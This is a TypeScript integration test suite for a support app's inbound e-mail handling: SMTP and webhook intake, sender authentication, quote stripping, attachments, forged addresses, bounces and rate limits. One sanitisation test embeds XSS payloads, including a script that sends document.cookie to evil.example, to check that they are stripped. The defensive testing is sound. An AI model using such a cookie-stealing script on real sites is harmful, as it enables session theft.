import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { simpleParser } from 'mailparser';
import nodemailer, { type Transporter } from 'nodemailer';
import pino from 'pino';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Lang } from '../../../contracts/common.ts';
import { buildApp } from '../../app.ts';
import { createLoggedInAgent } from '../../test/agent-factories.ts';
import { uniqueEmail } from '../../test/factories.ts';
import { SmtpSink, type ReceivedMail } from '../../test/smtp-sink.ts';
import { testConfig } from '../../test/test-app.ts';
import { createTestDb, type TestDb } from '../../test/test-db.ts';
import { TestSocket, realtimeUrl } from '../../test/test-socket.ts';
import { EmailWorker, SmtpTransport } from '../email/index.ts';
import { emailAttachments, inboundSettings, startInboundSmtp, type DnsResolver, type InboundSmtpServer } from './index.ts';

const SECRET = 'inbound-test-secret-0123456789';
const silent = pino({ level: 'silent' });

// The customers' mail domain, with its DNS as the authentication checks see it (no network in tests).
const CUSTOMER_DOMAIN = 'customers.example';
const dkimKeys = generateKeyPairSync('rsa', { modulusLength: 2048 });
const dkimPublic = dkimKeys.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
const DNS: Record<string, string[][]> = {
  [`TXT ${CUSTOMER_DOMAIN}`]: [['v=spf1 ip4:127.0.0.1 -all']],
  [`TXT mail._domainkey.${CUSTOMER_DOMAIN}`]: [[`v=DKIM1; k=rsa; p=${dkimPublic}`]],
  [`TXT _dmarc.${CUSTOMER_DOMAIN}`]: [['v=DMARC1; p=reject']],
};
const resolver: DnsResolver = async (name, rrtype) => {
  const answer = DNS[`${rrtype} ${name.toLowerCase()}`];
  if (answer) return answer;
  throw Object.assign(new Error(`queryTxt ENOTFOUND ${name}`), { code: 'ENOTFOUND' });
};

let testDb: TestDb;
let app: FastifyInstance;
let sink: SmtpSink;
let worker: EmailWorker;
let transport: SmtpTransport;
let inbound: InboundSmtpServer;
let inboundNewTickets: InboundSmtpServer;
let agentCookie: string;
const clients: Transporter[] = [];
const sockets: TestSocket[] = [];

beforeAll(async () => {
  testDb = await createTestDb();
  const config = testConfig({ inboundEmailSecret: SECRET });
  app = await buildApp({ db: testDb.db, config, inboundEmail: { resolver } });
  await app.listen({ port: 0, host: '127.0.0.1' });
  sink = await SmtpSink.start();
  transport = new SmtpTransport(sink.url);
  worker = new EmailWorker({
    db: testDb.db,
    transport,
    logger: silent,
    publicUrl: config.publicUrl,
    from: config.emailFrom,
    replyDomain: config.replyDomain,
    retryBaseSeconds: 1,
    leaseSeconds: 30,
  });
  const common = {
    db: testDb.db,
    port: 0,
    host: '127.0.0.1',
    maxBytes: config.inboundEmailMaxBytes,
    domains: [config.replyDomain],
    logger: silent,
    resolver,
    attachments: emailAttachments(config),
  };
  inbound = await startInboundSmtp({ ...common, settings: inboundSettings(config) });
  inboundNewTickets = await startInboundSmtp({ ...common, settings: { ...inboundSettings(config), newTickets: true } });
  agentCookie = (await createLoggedInAgent(app)).cookie;
});

afterAll(async () => {
  for (const s of sockets) s.ws.terminate();
  for (const c of clients) c.close();
  await inbound?.close();
  await inboundNewTickets?.close();
  await transport?.close();
  await sink?.close();
  await app?.close();
  await testDb?.cleanup();
});

/** The customer's mail client: nodemailer speaking SMTP to our listener, DKIM-signing as its provider would. */
function mailClient(server: InboundSmtpServer = inbound, dkim = true): Transporter {
  const client = nodemailer.createTransport({
    host: '127.0.0.1',
    port: server.port,
    secure: false,
    ignoreTLS: true,
    ...(dkim ? { dkim: { domainName: CUSTOMER_DOMAIN, keySelector: 'mail', privateKey: dkimKeys.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string } } : {}),
  });
  clients.push(client);
  return client;
}

function customerAddress(): string {
  return uniqueEmail('client').replace(/@.*$/, `@${CUSTOMER_DOMAIN}`);
}

async function openTicket(email: string, lang: Lang = 'en'): Promise<{ id: string; token: string }> {
  const res = await app.inject({ method: 'POST', url: '/api/tickets', payload: { email, message: 'My order is late', lang } });
  expect(res.statusCode).toBe(201);
  return { id: res.json().ticket.id, token: res.json().token };
}

async function agentReply(ticketId: string, body: string) {
  const res = await app.inject({ method: 'POST', url: `/api/agent/tickets/${ticketId}/messages`, payload: { body }, headers: { cookie: agentCookie } });
  expect(res.statusCode).toBe(201);
}

/** Delivers the outbox, and returns the newest mail the customer received. */
async function lastMailTo(address: string): Promise<ReceivedMail & { replyTo: string }> {
  await worker.drain();
  const mail = sink.mails.filter((m) => m.to.includes(address)).at(-1);
  if (!mail) throw new Error(`no mail to ${address}`);
  const parsed = await simpleParser(mail.raw);
  return { ...mail, replyTo: parsed.replyTo!.value[0]!.address! };
}

type Row = { author_type: string; body: string };
async function messagesOf(ticketId: string): Promise<Row[]> {
  const { rows } = await testDb.db.query<Row>('SELECT author_type, body FROM support_messages WHERE request_id = $1 ORDER BY seq', [ticketId]);
  return rows;
}

async function statusOf(ticketId: string): Promise<string> {
  const { rows } = await testDb.db.query<{ status: string }>('SELECT status FROM support_requests WHERE id = $1', [ticketId]);
  return rows[0]!.status;
}

/** What a mail client quotes under a reply, in each language's style. */
const QUOTE_HEADER: Record<Lang, string> = {
  fr: 'Le mer. 2 déc. 2026 à 08:00, Tasty Food Support <support@localhost> a\u00a0écrit\u00a0:',
  en: 'On Wed, 2 Dec 2026 at 08:00, Tasty Food Support <support@localhost> wrote:',
  nl: 'Op wo 2 dec. 2026 om 08:00 schreef Tasty Food Support <support@localhost>:',
};

function quotedReply(text: string, lang: Lang, original: ReceivedMail): string {
  const quoted = (original.text ?? '').split('\n').map((l) => `> ${l}`).join('\n');
  return `${text}\n\n${QUOTE_HEADER[lang]}\n${quoted}\n`;
}

/** A raw MIME message, for the webhook and for what a mail client would not send. */
function rawMail(h: { from: string; to: string; subject?: string; messageId?: string; extra?: string[]; contentType?: string }, body: string): string {
  return [
    `From: ${h.from}`,
    `To: ${h.to}`,
    `Subject: ${h.subject ?? 'Re: your request'}`,
    `Message-ID: ${h.messageId ?? `<${crypto.randomUUID()}@${CUSTOMER_DOMAIN}>`}`,
    'MIME-Version: 1.0',
    `Content-Type: ${h.contentType ?? 'text/plain; charset=utf-8'}`,
    ...(h.extra ?? []),
    '',
    body,
  ].join('\r\n');
}

function postWebhook(raw: string | Buffer, secret = SECRET) {
  return app.inject({
    method: 'POST',
    url: '/api/inbound/email',
    headers: { authorization: `Bearer ${secret}`, 'content-type': 'message/rfc822' },
    payload: raw,
  });
}

describe('a conversation held by e-mail', () => {
  it('a customer can hold the whole conversation by e-mail alone', async () => {
    const customer = customerAddress();
    const client = mailClient(inboundNewTickets);
    // 1. The customer writes to the support address: a ticket opens, with its e-mail.
    await client.sendMail({ from: customer, to: 'support@localhost', subject: 'Missing fries', text: 'My order #4521 came without the fries.' });
    const { rows } = await testDb.db.query<{ id: string }>('SELECT id FROM support_requests WHERE email = $1', [customer]);
    expect(rows).toHaveLength(1);
    const ticketId = rows[0]!.id;
    const created = await lastMailTo(customer);
    expect(created.replyTo).toMatch(new RegExp(`^reply\\+${ticketId}\\.[0-9a-f]{20}@localhost$`));
    expect(created.headerNames).toContain('auto-submitted');

    // 2. An agent answers; the customer presses "Reply" in their mail client.
    await agentReply(ticketId, 'Sorry about that! We refund the fries.');
    const reply = await lastMailTo(customer);
    expect(reply.text).toContain('We refund the fries.');
    expect(reply.replyTo).toBe(created.replyTo);
    expect(reply.headerNames).toContain('in-reply-to');
    await client.sendMail({
      from: customer,
      to: reply.replyTo,
      subject: `Re: ${reply.subject}`,
      inReplyTo: reply.messageId,
      references: [reply.messageId!],
      text: quotedReply('Thank you, that is kind.', 'en', reply),
    });

    // 3. The agent resolves it; a later e-mail reopens it.
    const patch = await app.inject({ method: 'PATCH', url: `/api/agent/tickets/${ticketId}`, payload: { status: 'resolved' }, headers: { cookie: agentCookie } });
    expect(patch.statusCode).toBe(200);
    await client.sendMail({ from: customer, to: reply.replyTo, subject: `Re: ${reply.subject}`, text: quotedReply('One more thing: no ketchup next time.', 'en', reply) });
    expect(await statusOf(ticketId)).toBe('open');
    await agentReply(ticketId, 'Noted, no ketchup.');
    expect((await lastMailTo(customer)).text).toContain('Noted, no ketchup.');

    expect(await messagesOf(ticketId)).toEqual([
      { author_type: 'user', body: 'My order #4521 came without the fries.' },
      { author_type: 'agent', body: 'Sorry about that! We refund the fries.' },
      { author_type: 'user', body: 'Thank you, that is kind.' },
      { author_type: 'user', body: 'One more thing: no ketchup next time.' },
      { author_type: 'agent', body: 'Noted, no ketchup.' },
    ]);
  });

  it.each<[Lang, string]>([
    ['fr', 'Merci, c’est bien arrivé\u00a0!'],
    ['en', 'Thanks, it arrived just now.'],
    ['nl', 'Bedankt, het is net aangekomen.'],
  ])('a %s reply with the original quoted below lands once, exactly its new text, live on the dashboard', async (lang, text) => {
    const customer = customerAddress();
    const ticket = await openTicket(customer, lang);
    await agentReply(ticket.id, 'Your order left the restaurant.');
    const mail = await lastMailTo(customer);
    const socket = await TestSocket.open(realtimeUrl(app), { headers: { cookie: agentCookie } });
    sockets.push(socket);
    await socket.subscribe(`ticket:${ticket.id}`);
    const from = socket.frames.length;

    const message = { from: customer, to: mail.replyTo, subject: `Re: ${mail.subject}`, text: quotedReply(text, lang, mail) };
    const sent = await mailClient().sendMail(message);
    expect(sent.accepted).toEqual([mail.replyTo]);
    const live = await socket.waitFor((f) => f.type === 'message.created' && f.message.author_type === 'user', 20_000, from);
    expect(live.type === 'message.created' && live.message.body).toBe(text);
    // The same e-mail delivered again (same Message-ID): stored once.
    await mailClient().sendMail({ ...message, messageId: sent.messageId });
    const rows = await messagesOf(ticket.id);
    expect(rows.filter((r) => r.author_type === 'user').map((r) => r.body)).toEqual(['My order is late', text]);
  });

  it('keeps who sent the e-mail and its SPF, DKIM and DMARC verdicts beside the message', async () => {
    const customer = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Which restaurant?');
    const mail = await lastMailTo(customer);
    await mailClient().sendMail({ from: customer, to: mail.replyTo, subject: 'Re', text: 'Brussels centre.' });
    const messageId = (await testDb.db.query<{ id: string }>("SELECT id FROM support_messages WHERE request_id = $1 AND body = 'Brussels centre.'", [ticket.id])).rows[0]!.id;
    const res = await app.inject({ url: `/api/agent/tickets/${ticket.id}/emails`, headers: { cookie: agentCookie } });
    expect(res.statusCode).toBe(200);
    expect(res.json().emails).toEqual([
      { message_id: messageId, from: customer, sender_matches: true, signed_address: true, via: 'smtp', spf: 'pass', dkim: 'pass', dmarc: 'pass', created_at: expect.any(String) },
    ]);
    // Agents only.
    expect((await app.inject({ url: `/api/agent/tickets/${ticket.id}/emails` })).statusCode).toBe(401);
  });

  it('takes an HTML-only reply as plain text, without its script', async () => {
    const customer = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Anything else?');
    const mail = await lastMailTo(customer);
    await mailClient().sendMail({
      from: customer,
      to: mail.replyTo,
      subject: 'Re',
      html: '<html><head><script>alert("head")</script></head><body><p>Yes, a <b>large</b> drink.</p><script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="alert(1)"><div class="gmail_quote">On Wed wrote:<blockquote>Anything else?</blockquote></div></body></html>',
    });
    const body = (await messagesOf(ticket.id)).at(-1)!.body;
    expect(body).toBe('Yes, a large drink.');
  });
});

describe('files sent by e-mail', () => {
  it('keeps a reply\'s files through the attachments module and leaves out the ones it refuses; a photo alone is a message', async () => {
    const customer = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Can you send a photo of the receipt?');
    const mail = await lastMailTo(customer);
    const photo = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#c0392b' } }).png().toBuffer();
    const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]);
    await mailClient().sendMail({
      from: customer,
      to: mail.replyTo,
      subject: 'Re',
      text: quotedReply('Here it is.', 'en', mail),
      attachments: [
        { filename: 'receipt.png', content: photo, contentType: 'image/png' },
        { filename: 'tool.exe', content: program, contentType: 'application/octet-stream' },
      ],
    });
    await mailClient().sendMail({ from: customer, to: mail.replyTo, subject: 'Re', text: '', attachments: [{ filename: 'burger.png', content: photo }] });

    const res = await app.inject({ url: `/api/tickets/${ticket.id}/messages`, headers: { authorization: `Bearer ${ticket.token}` } });
    expect(res.statusCode).toBe(200);
    const mine = (res.json().messages as { body: string; author_type: string; attachments: { name: string; mime: string }[] }[]).slice(-2);
    expect(mine.map((m) => m.body)).toEqual(['Here it is.', '📎 burger.png']);
    expect(mine.map((m) => m.attachments.map((f) => [f.name, f.mime]))).toEqual([[['receipt.png', 'image/png']], [['burger.png', 'image/png']]]);
    const { rows } = await testDb.db.query<{ n: number }>('SELECT count(*)::int AS n FROM attachments WHERE request_id = $1', [ticket.id]);
    expect(rows[0]!.n).toBe(2);
  });
});

describe('the second way in: In-Reply-To and References', () => {
  it('a reply to the support address naming our Message-ID lands on its ticket when the sender is the customer', async () => {
    const customer = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Is it fixed?');
    const mail = await lastMailTo(customer);
    await mailClient().sendMail({ from: customer, to: 'support@localhost', subject: 'Re', inReplyTo: mail.messageId, references: [mail.messageId!], text: 'Yes, fixed.' });
    expect((await messagesOf(ticket.id)).at(-1)).toEqual({ author_type: 'user', body: 'Yes, fixed.' });
  });

  it('refuses it from anyone else (550), and stores nothing', async () => {
    const customer = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Is it fixed?');
    const mail = await lastMailTo(customer);
    const before = await messagesOf(ticket.id);
    await expect(
      mailClient().sendMail({ from: customerAddress(), to: 'support@localhost', inReplyTo: mail.messageId, subject: 'Re', text: 'Not me.' }),
    ).rejects.toMatchObject({ responseCode: 550 });
    expect(await messagesOf(ticket.id)).toEqual(before);
  });

  it('accepts a stranger writing to the signed address, flagged for the agent', async () => {
    const customer = customerAddress();
    const colleague = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Who picks it up?');
    const mail = await lastMailTo(customer);
    await mailClient().sendMail({ from: colleague, to: mail.replyTo, subject: 'Re', text: 'I will, I am her colleague.' });
    const res = await app.inject({ url: `/api/agent/tickets/${ticket.id}/emails`, headers: { cookie: agentCookie } });
    expect(res.json().emails).toMatchObject([{ from: colleague, sender_matches: false, signed_address: true }]);
    expect((await messagesOf(ticket.id)).at(-1)).toEqual({ author_type: 'user', body: 'I will, I am her colleague.' });
  });

  it('with INBOUND_NEW_TICKETS on, opens one ticket per e-mail (a second delivery opens none) within the daily limit per address', async () => {
    const stranger = customerAddress();
    const client = mailClient(inboundNewTickets);
    const first = await client.sendMail({ from: stranger, to: 'support@localhost', subject: 'Question 1', text: 'Question 1' });
    await client.sendMail({ from: stranger, to: 'support@localhost', subject: 'Question 1', text: 'Question 1', messageId: first.messageId });
    for (let n = 2; n <= 5; n += 1) await client.sendMail({ from: stranger, to: 'support@localhost', subject: `Question ${n}`, text: `Question ${n}` });
    // The sixth of the day: 451, the sender's server tries again later.
    await expect(client.sendMail({ from: stranger, to: 'support@localhost', subject: 'Question 6', text: 'Question 6' })).rejects.toMatchObject({ responseCode: 451 });
    const { rows } = await testDb.db.query<{ message: string }>('SELECT message FROM support_requests WHERE email = $1 ORDER BY created_at', [stranger]);
    expect(rows.map((r) => r.message)).toEqual(['Question 1', 'Question 2', 'Question 3', 'Question 4', 'Question 5']);
  });

  it('refuses unknown, unsigned mail to the support address while INBOUND_NEW_TICKETS is off', async () => {
    const stranger = customerAddress();
    await expect(mailClient().sendMail({ from: stranger, to: 'support@localhost', subject: 'Hello', text: 'New question' })).rejects.toMatchObject({ responseCode: 550 });
    const { rows } = await testDb.db.query('SELECT 1 FROM support_requests WHERE email = $1', [stranger]);
    expect(rows).toHaveLength(0);
  });
});

describe('a reply to a ticket merged into another', () => {
  it('lands in the kept ticket, by the signed address and by our Message-ID; the merged ticket stays closed and empty', async () => {
    const customer = customerAddress();
    const kept = await openTicket(customer);
    const gone = await openTicket(customer);
    await agentReply(gone.id, 'Which order is it?');
    const mail = await lastMailTo(customer);
    const merged = await app.inject({ method: 'POST', url: `/api/agent/tickets/${kept.id}/merge`, payload: { ticket_id: gone.id }, headers: { cookie: agentCookie } });
    expect(merged.statusCode).toBe(200);

    const signed = await postWebhook(rawMail({ from: customer, to: mail.replyTo }, quotedReply('Order TF-1234.', 'en', mail)));
    expect(signed.statusCode).toBe(202);
    expect(signed.json()).toEqual({ result: 'accepted', ticketId: kept.id });
    await mailClient().sendMail({ from: customer, to: 'support@localhost', subject: 'Re', inReplyTo: mail.messageId, references: [mail.messageId!], text: 'It came cold.' });

    expect((await messagesOf(kept.id)).slice(-2)).toEqual([
      { author_type: 'user', body: 'Order TF-1234.' },
      { author_type: 'user', body: 'It came cold.' },
    ]);
    expect(await messagesOf(gone.id)).toEqual([]);
    expect(await statusOf(gone.id)).toBe('closed');
    const { rows } = await testDb.db.query<{ n: number }>('SELECT count(*)::int AS n FROM inbound_emails WHERE request_id = $1', [kept.id]);
    expect(rows[0]!.n).toBe(2);
  });
});

describe('the SMTP listener', () => {
  it('offers STARTTLS when a certificate is configured, and a reply sent over it lands', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'inbound-tls-'));
    const tls = { certFile: join(dir, 'cert.pem'), keyFile: join(dir, 'key.pem') };
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-subj', '/CN=localhost', '-days', '1', '-keyout', tls.keyFile, '-out', tls.certFile], { stdio: 'ignore' });
    const config = app.config;
    const secure = await startInboundSmtp({
      db: testDb.db, port: 0, host: '127.0.0.1', maxBytes: config.inboundEmailMaxBytes, domains: [config.replyDomain],
      logger: silent, resolver, settings: inboundSettings(config), tls,
    });
    try {
      const customer = customerAddress();
      const ticket = await openTicket(customer);
      await agentReply(ticket.id, 'Over TLS?');
      const mail = await lastMailTo(customer);
      // requireTLS: nodemailer refuses to send unless STARTTLS succeeded.
      const client = nodemailer.createTransport({ host: '127.0.0.1', port: secure.port, secure: false, requireTLS: true, tls: { rejectUnauthorized: false } });
      clients.push(client);
      await client.sendMail({ from: customer, to: mail.replyTo, subject: 'Re', text: 'Yes, encrypted.' });
      expect((await messagesOf(ticket.id)).at(-1)).toEqual({ author_type: 'user', body: 'Yes, encrypted.' });
      // Without a certificate the listener offers no STARTTLS: the same client cannot send.
      const plain = nodemailer.createTransport({ host: '127.0.0.1', port: inbound.port, secure: false, requireTLS: true, tls: { rejectUnauthorized: false } });
      clients.push(plain);
      await expect(plain.sendMail({ from: customer, to: mail.replyTo, subject: 'Re', text: 'Plain' })).rejects.toThrow(/STARTTLS/i);
    } finally {
      await secure.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the webhook POST /api/inbound/email', () => {
  it('takes the raw message: 202, exactly the new text once, the same message again is a duplicate', async () => {
    const customer = customerAddress();
    const ticket = await openTicket(customer, 'nl');
    await agentReply(ticket.id, 'Is alles goed?');
    const mail = await lastMailTo(customer);
    const raw = rawMail({ from: customer, to: mail.replyTo }, quotedReply('Ja hoor, alles is goed.', 'nl', mail));
    const first = await postWebhook(raw);
    expect(first.statusCode).toBe(202);
    expect(first.json()).toEqual({ result: 'accepted', ticketId: ticket.id });
    const again = await postWebhook(raw);
    expect(again.statusCode).toBe(202);
    expect(again.json()).toEqual({ result: 'duplicate', ticketId: ticket.id });
    const users = (await messagesOf(ticket.id)).filter((m) => m.author_type === 'user');
    expect(users.map((m) => m.body)).toEqual(['My order is late', 'Ja hoor, alles is goed.']);
    const { rows } = await testDb.db.query('SELECT via, spf FROM inbound_emails WHERE request_id = $1', [ticket.id]);
    // No SMTP client address through a webhook: no SPF verdict of ours.
    expect(rows).toEqual([{ via: 'webhook', spf: null }]);
  });

  it('answers 401 without the secret and 400 without a body, storing nothing', async () => {
    const res = await postWebhook(rawMail({ from: 'a@b.example', to: 'support@localhost' }, 'hi'), 'wrong-secret-0123456789');
    expect(res.statusCode).toBe(401);
    expect(res.json().error.code).toBe('unauthorized');
    const empty = await app.inject({ method: 'POST', url: '/api/inbound/email', headers: { authorization: `Bearer ${SECRET}`, 'content-type': 'message/rfc822' } });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.code).toBe('invalid_request');
  });

  it('answers 503 on a server without INBOUND_EMAIL_SECRET', async () => {
    const off = await buildApp({ db: testDb.db, config: testConfig() });
    try {
      const res = await off.inject({ method: 'POST', url: '/api/inbound/email', headers: { authorization: `Bearer ${SECRET}`, 'content-type': 'message/rfc822' }, payload: 'x' });
      expect(res.statusCode).toBe(503);
      expect(res.json().error.code).toBe('unavailable');
    } finally {
      await off.close();
    }
  });
});

describe('loops and abuse', () => {
  async function ticketWithReply() {
    const customer = customerAddress();
    const ticket = await openTicket(customer);
    await agentReply(ticket.id, 'Here is your answer.');
    const mail = await lastMailTo(customer);
    return { customer, ticket, mail, before: await messagesOf(ticket.id) };
  }

  it('refuses a forged reply+ address at RCPT over SMTP and through the webhook', async () => {
    const { customer, ticket, mail, before } = await ticketWithReply();
    const forged = mail.replyTo.replace(/\.([0-9a-f]{20})@/, (_m, sig: string) => `.${sig.slice(0, 19)}${sig[19] === '0' ? '1' : '0'}@`);
    expect(forged).not.toBe(mail.replyTo);
    await expect(mailClient().sendMail({ from: customer, to: forged, subject: 'Re', text: 'Forged' })).rejects.toMatchObject({ responseCode: 550 });
    const guessed = `reply+${ticket.id}@localhost`;
    await expect(mailClient().sendMail({ from: customer, to: guessed, subject: 'Re', text: 'Guessed' })).rejects.toMatchObject({ responseCode: 550 });
    const res = await postWebhook(rawMail({ from: customer, to: forged, extra: [`In-Reply-To: ${mail.messageId}`] }, 'Forged'));
    expect(res.statusCode).toBe(202);
    expect(res.json()).toEqual({ result: 'refused', reason: 'forged_address' });
    expect(await messagesOf(ticket.id)).toEqual(before);
  });

  it.each([
    ['Auto-Submitted: auto-replied', { extra: ['Auto-Submitted: auto-replied'] }],
    ['Precedence: bulk', { extra: ['Precedence: bulk'] }],
    ['an out-of-office subject (FR)', { subject: 'Réponse automatique : absent du bureau' }],
    ['an out-of-office subject (NL)', { subject: 'Automatisch antwoord: afwezig' }],
    ['X-Autoreply', { extra: ['X-Autoreply: yes'] }],
  ])('ignores an automatic answer (%s): accepted by SMTP, nothing stored', async (_name, h) => {
    const { customer, ticket, mail, before } = await ticketWithReply();
    const raw = rawMail({ from: customer, to: mail.replyTo, ...h }, 'I am out of the office until Monday.');
    const sent = await mailClient(inbound, false).sendMail({ envelope: { from: customer, to: [mail.replyTo] }, raw });
    expect(sent.accepted).toEqual([mail.replyTo]);
    expect((await postWebhook(raw)).json()).toEqual({ result: 'ignored', reason: 'auto_reply' });
    expect(await messagesOf(ticket.id)).toEqual(before);
  });

  it('records a bounce on the outbox row it answers, and stores nothing on the ticket', async () => {
    const { customer, ticket, mail, before } = await ticketWithReply();
    const outboxId = /^<([0-9a-f-]{36})@/.exec(mail.messageId!)![1]!;
    const boundary = 'dsn-boundary';
    const dsn = rawMail(
      { from: 'MAILER-DAEMON@customers.example', to: 'support@localhost', subject: 'Undelivered Mail Returned to Sender', contentType: `multipart/report; report-type=delivery-status; boundary="${boundary}"` },
      [
        `--${boundary}`,
        'Content-Type: text/plain',
        '',
        'Your message could not be delivered.',
        `--${boundary}`,
        'Content-Type: message/delivery-status',
        '',
        `Final-Recipient: rfc822; ${customer}`,
        'Action: failed',
        'Status: 5.1.1',
        'Diagnostic-Code: smtp; 550 5.1.1 user unknown',
        `--${boundary}`,
        'Content-Type: text/rfc822-headers',
        '',
        `Message-ID: ${mail.messageId}`,
        `To: ${customer}`,
        `--${boundary}--`,
      ].join('\r\n'),
    );
    // Delivery reports come from the null sender.
    const sent = await mailClient(inbound, false).sendMail({ envelope: { from: '', to: ['support@localhost'] }, raw: dsn });
    expect(sent.accepted).toEqual(['support@localhost']);
    const { rows } = await testDb.db.query<{ status: string; last_error: string }>('SELECT status, last_error FROM email_queue WHERE id = $1', [outboxId]);
    expect(rows[0]).toEqual({ status: 'bounced', last_error: 'bounced (delivery report: smtp; 550 5.1.1 user unknown)' });
    expect((await postWebhook(dsn)).json()).toEqual({ result: 'ignored', reason: 'bounce' });
    expect(await messagesOf(ticket.id)).toEqual(before);
  });

  it('ignores our own e-mail coming back', async () => {
    const { ticket, mail, before } = await ticketWithReply();
    const res = await postWebhook(mail.raw);
    expect(res.json()).toEqual({ result: 'ignored', reason: 'own_message' });
    expect(await messagesOf(ticket.id)).toEqual(before);
  });

  it('refuses a 30 MB message: 552 over SMTP, 413 through the webhook, nothing stored', async () => {
    const { customer, ticket, mail, before } = await ticketWithReply();
    const big = rawMail({ from: customer, to: mail.replyTo }, `${'x'.repeat(76)}\r\n`.repeat(Math.ceil((30 * 1024 * 1024) / 78)));
    await expect(mailClient(inbound, false).sendMail({ envelope: { from: customer, to: [mail.replyTo] }, raw: big })).rejects.toMatchObject({ responseCode: 552 });
    const res = await postWebhook(big);
    expect(res.statusCode).toBe(413);
    expect(res.json().error.code).toBe('payload_too_large');
    expect(await messagesOf(ticket.id)).toEqual(before);
  });

  it('applies the hourly message limit: 451 over SMTP (the sender retries later), 429 through the webhook', async () => {
    const { customer, ticket, mail } = await ticketWithReply();
    await testDb.db.query(
      `INSERT INTO support_messages (request_id, author_type, body, seq)
       SELECT $1, 'user', 'filler ' || n, 100 + n FROM generate_series(1, 100) AS n`,
      [ticket.id],
    );
    await testDb.db.query('UPDATE support_requests SET last_message_seq = 200 WHERE id = $1', [ticket.id]);
    const before = await messagesOf(ticket.id);
    await expect(mailClient().sendMail({ from: customer, to: mail.replyTo, subject: 'Re', text: 'One too many' })).rejects.toMatchObject({ responseCode: 451 });
    const res = await postWebhook(rawMail({ from: customer, to: mail.replyTo }, 'One too many'));
    expect(res.statusCode).toBe(429);
    expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
    expect(await messagesOf(ticket.id)).toEqual(before);
  });
});
